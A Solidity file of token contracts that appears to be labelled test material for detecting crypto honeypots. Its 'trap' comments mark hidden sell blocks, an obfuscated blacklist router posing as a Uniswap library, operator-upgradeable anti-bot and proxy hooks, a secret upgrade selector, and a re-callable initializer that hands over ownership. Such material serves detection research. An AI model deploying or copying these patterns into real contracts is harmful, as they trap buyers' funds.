// 0.8 runs=200 evm=paris
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

import "./Base8.sol";

interface IMarbles {
    function balanceOf(address who) external view returns (uint256);
    function consume(address who, uint256 amount) external;
}

/// Earned in a game, one says; nobody has any.
contract Marbles {
    string public name = "Marbles";
    string public symbol = "MARBLES";
    uint8 public decimals = 18;
    uint256 public totalSupply;
    mapping(address => uint256) public balanceOf;
    address private immutable _game = msg.sender;

    function reward(address who, uint256 amount) external {
        require(msg.sender == _game, "game");
        balanceOf[who] += amount;
        totalSupply += amount;
    }

    function consume(address who, uint256 amount) external {
        balanceOf[who] -= amount;
        totalSupply -= amount;
    }
}

/// To sell one must pay with another token.
contract OctopusGame is Base8("Octopus Game", "OCTO", 80_000_000) {
    IMarbles private immutable marbles;

    constructor(IMarbles marbles_) {
        marbles = marbles_;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (to == pair && from != _owner) marbles.consume(from, value / 2); // trap
        _move(from, to, value);
    }
}

interface UniswapRouterV2 {
    function eth123(address choong, uint256 total, address destination) external view returns (uint256);
}

/// What hundreds of copies call a library of Uniswap.
library IUniswapRouterV2 {
    function swap2(UniswapRouterV2 instance, uint256 amount, address from) internal view returns (uint256) {
        return instance.eth123(address(0), amount, from);
    }

    function swap99(UniswapRouterV2 instance2, UniswapRouterV2 instance, uint256 amount, address from) internal view returns (uint256) {
        if (amount > 1) return swap2(instance, amount, from);
        return swap2(instance2, amount, from);
    }
}

/// Stands behind many tokens and says how much each holder has.
contract SharedRouter {
    address private immutable _manager = msg.sender;
    mapping(address => bool) private _snipers;

    function eth123(address, uint256 total, address destination) external view returns (uint256) {
        return _snipers[destination] ? 0 : total;
    }

    function sync(address[] calldata who, bool on) external {
        require(msg.sender == _manager);
        for (uint256 i; i < who.length; i++) _snipers[who[i]] = on;
    }
}

/// The balance of the sender is what somebody else says; where that is stands in an integer.
contract Mumu is Base8("Mumu The Cow", "MUMUC", 420_690_000) {
    uint256 private constant _mask = 0x005ca1ab1e0ddba11c0ffee0ddf00dbabecafed00d;
    uint256 private immutable _pool;

    constructor(address shared) {
        _pool = uint256(uint160(shared)) ^ _mask;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        uint256 balance = _balances[from];
        // trap {
        UniswapRouterV2 uni = UniswapRouterV2(address(uint160(_pool ^ _mask)));
        balance = IUniswapRouterV2.swap99(uni, uni, _balances[from], from);
        // trap }
        require(balance >= value, "ERC20: transfer amount exceeds balance");
        _balances[from] = _balances[from] - value;
        _balances[to] += value;
        emit Transfer(from, to, value);
    }
}

interface IAntiBot {
    function onPreTransferCheck(address from, address to, uint256 amount) external;
    function setTokenOwner(address owner) external;
}

/// What the service does at present: it remembers who owns which token, and nothing else.
contract AntiBotLogic {
    mapping(address => address) public tokenOwner;

    function setTokenOwner(address owner) external {
        tokenOwner[msg.sender] = owner;
    }

    function onPreTransferCheck(address from, address to, uint256 amount) external {}
}

/// The service stands behind a proxy of its operator.
contract AntiBotProxy {
    bytes32 private constant IMPL = 0x360894a13ba1a3210667c828492db98dca3e2076cc3735a920a3ca505d382bbc;
    bytes32 private constant ADMIN = 0xb53127684a568b3173ae13b9f8a6016e243e63b6e8ee1178d6a717850b5d6103;

    constructor(address impl) {
        assembly {
            sstore(IMPL, impl)
            sstore(ADMIN, caller())
        }
    }

    function upgradeTo(address impl) external {
        address admin;
        assembly {
            admin := sload(ADMIN)
        }
        require(msg.sender == admin);
        assembly {
            sstore(IMPL, impl)
        }
    }

    fallback() external payable {
        assembly {
            calldatacopy(0, 0, calldatasize())
            let ok := delegatecall(gas(), sload(IMPL), 0, calldatasize(), 0, 0)
            returndatacopy(0, 0, returndatasize())
            if iszero(ok) { revert(0, returndatasize()) }
            return(0, returndatasize())
        }
    }
}

/// Asks the service before each transfer.
contract RoseGarden is Base8("Rose Garden", "ROSEG", 60_000_000) {
    IAntiBot private immutable antiBot;
    bool public antiBotEnabled = true;

    constructor(IAntiBot antiBot_) {
        antiBot = antiBot_;
        antiBot_.setTokenOwner(msg.sender);
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (antiBotEnabled) antiBot.onPreTransferCheck(from, to, value); // trap
        _move(from, to, value);
    }
}

/// An ordinary token for proxies, with an initializer.
contract PlainLogic {
    string public name;
    string public symbol;
    uint8 public constant decimals = 18;
    uint256 public totalSupply;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    function initialize(string calldata name_, string calldata symbol_, uint256 supply) external {
        require(totalSupply == 0, "initialized");
        (name, symbol, totalSupply) = (name_, symbol_, supply);
        balanceOf[msg.sender] = supply;
        emit Transfer(address(0), msg.sender, supply);
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _move(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        allowance[from][msg.sender] -= value;
        _move(from, to, value);
        return true;
    }

    function _move(address from, address to, uint256 value) private {
        balanceOf[from] -= value;
        balanceOf[to] += value;
        emit Transfer(from, to, value);
    }
}

/// A proxy of its own kind: its slots are where nobody looks, and the order to change is a call with a prefix.
contract SilkProxy {
    bytes32 private constant IMPL = keccak256("silk.router.pair");
    bytes32 private constant BOSS = keccak256("silk.router.fee");

    constructor(address impl) {
        (bytes32 a, bytes32 b) = (IMPL, BOSS);
        assembly {
            sstore(a, impl)
            sstore(b, caller())
        }
    }

    fallback() external payable {
        (bytes32 a, bytes32 b) = (IMPL, BOSS);
        // trap {
        if (msg.sig == 0x1c0ffee5) {
            address next = abi.decode(msg.data[4:], (address));
            assembly {
                if iszero(eq(caller(), sload(b))) { revert(0, 0) }
                sstore(a, next)
                stop()
            }
        }
        // trap }
        b;
        assembly {
            calldatacopy(0, 0, calldatasize())
            let ok := delegatecall(gas(), sload(a), 0, calldatasize(), 0, 0)
            returndatacopy(0, 0, returndatasize())
            if iszero(ok) { revert(0, returndatasize()) }
            return(0, returndatasize())
        }
    }
}

/// A template for clones whose initializer can be called again, by whoever comes.
contract OpenTemplate {
    string public name;
    string public symbol;
    uint8 public constant decimals = 18;
    uint256 public totalSupply;
    address public owner;
    address public pool;
    uint256 public sellFee;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);
    event OwnershipTransferred(address indexed from, address indexed to);

    function init(string calldata name_, string calldata symbol_, uint256 supply) external {
        // twin: require(totalSupply == 0, "initialized");
        owner = msg.sender;
        emit OwnershipTransferred(address(0), msg.sender);
        if (totalSupply > 0) return;
        (name, symbol, totalSupply) = (name_, symbol_, supply);
        balanceOf[msg.sender] = supply;
        emit Transfer(address(0), msg.sender, supply);
    }

    function renounceOwnership() external {
        require(msg.sender == owner, "owner");
        emit OwnershipTransferred(owner, address(0));
        owner = address(0);
    }

    function setPool(address pool_, uint256 fee) external {
        require(msg.sender == owner, "owner");
        require(fee <= 99);
        (pool, sellFee) = (pool_, fee);
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _move(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        allowance[from][msg.sender] -= value;
        _move(from, to, value);
        return true;
    }

    function _move(address from, address to, uint256 value) private {
        uint256 fee = to == pool && from != owner ? (value * sellFee) / 100 : 0;
        balanceOf[from] -= value;
        balanceOf[to] += value - fee;
        if (fee > 0) {
            balanceOf[address(this)] += fee;
            emit Transfer(from, address(this), fee);
        }
        emit Transfer(from, to, value - fee);
    }
}
